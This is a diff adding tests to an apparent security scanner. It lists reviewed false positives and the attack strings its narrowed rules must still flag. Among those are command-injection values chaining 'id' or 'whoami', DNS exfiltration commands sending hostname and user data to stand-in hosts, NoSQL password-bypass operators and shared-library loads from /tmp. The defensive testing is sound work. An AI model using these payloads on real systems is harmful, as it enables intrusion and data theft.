@@ -275,6 +275,60 @@ BENIGN = [
 ]
 
 
+# Reviewed false positives of the command-injection, NoSQL and library-load rules: ordinary shell, config and
+# query code that the rule named first scored at 0.6-0.7 before it was narrowed.
+REVIEWED_BENIGN = [
+    ("cmdi_chained_recon", "make build && id -u"),
+    ("cmdi_chained_recon", "cd /srv/app; whoami"),
+    ("cmdi_chained_recon", 'ssh admin@10.0.0.5 "uptime; id"'),
+    ("cmdi_chained_recon", "npm test && whoami\n(cd build && make); id -un\nls | id"),
+    ("cmdi_dns_exfil", "export NODE_NAME=$(hostname).cluster.local"),
+    ("cmdi_dns_exfil", "curl -s http://$(hostname).internal.example:8080/health"),
+    ("nosql_credential_operator", "db.users.find({ username: { $in: ['alice','bob'] } })"),
+    ("nosql_credential_operator", '{ username: { $regex: req.query.q, $options: "i" } }'),
+    ("library_load_hooks", "-fplugin=$GCC_PLUGIN_DIR/annobin.so"),
+    ("library_load_hooks", "php -d extension=$EXT_DIR/redis.so -m"),
+    ("library_load_hooks", "openvpn --plugin $PLUGIN_DIR/openvpn-plugin-auth-pam.so login"),
+    ("nosql_js_probe", "for(;;) {}; while (1) { poll(); }"),
+]
+
+# What those rules are for, in the shapes they still catch after being narrowed.
+NARROWED_RULES_STILL_CATCH = [
+    ("cmdi_chained_recon", "8.8.8.8 && id"),
+    ("cmdi_chained_recon", "host=example.com; whoami"),
+    ("cmdi_chained_recon", "report.pdf | id"),
+    ("cmdi_chained_recon", "name=x'; id"),
+    ("cmdi_chained_recon", "'& ping -n 30 127.0.0.1 &"),
+    ("cmdi_chained_recon", "q=abc%0d%0aid"),
+    ("cmdi_chained_recon", "x&&whoami"),
+    ("cmdi_dns_exfil", "ping -c 1 `whoami`.oob.example"),
+    ("cmdi_dns_exfil", "dig +short $(hostname).oob.example.net"),
+    ("cmdi_dns_exfil", "wget -q http://$(id -u).x.example/"),
+    ("nosql_credential_operator", '{"login": "admin", "password": {"$exists": true}}'),
+    ("nosql_credential_operator", "{ pwd: { $regex: /^s3/ } }"),
+    ("library_load_hooks", "php -d extension=/dev/shm/x.so -r 1"),
+    ("library_load_hooks", "openvpn --plugin /tmp/x.so"),
+    ("nosql_js_probe", "\"; while (1) {}"),
+]
+
+
+def _rule(danger, rule_id):
+    return next(r for r in danger.rules if r.id == rule_id)
+
+
+@pytest.mark.parametrize(("rule", "text"), REVIEWED_BENIGN)
+def test_reviewed_false_positives_stay_below_half(danger, privilege, rule, text):
+    assert _rule(danger, rule).pattern.search(text) is None
+    findings = danger.scan(text) + privilege.scan(text)
+    assert all(f.score < 0.5 for f in findings), findings
+
+
+@pytest.mark.parametrize(("rule", "text"), NARROWED_RULES_STILL_CATCH)
+def test_narrowed_rules_keep_their_purpose(danger, rule, text):
+    assert _rule(danger, rule).pattern.search(text) is not None
+    assert any(f.score >= 0.5 for f in danger.scan(text))
+
+
 @pytest.mark.parametrize(("text", "category"), DANGEROUS)
 def test_dangerous_text_is_flagged(danger, text, category):
     assert category in categories(danger.scan(text))
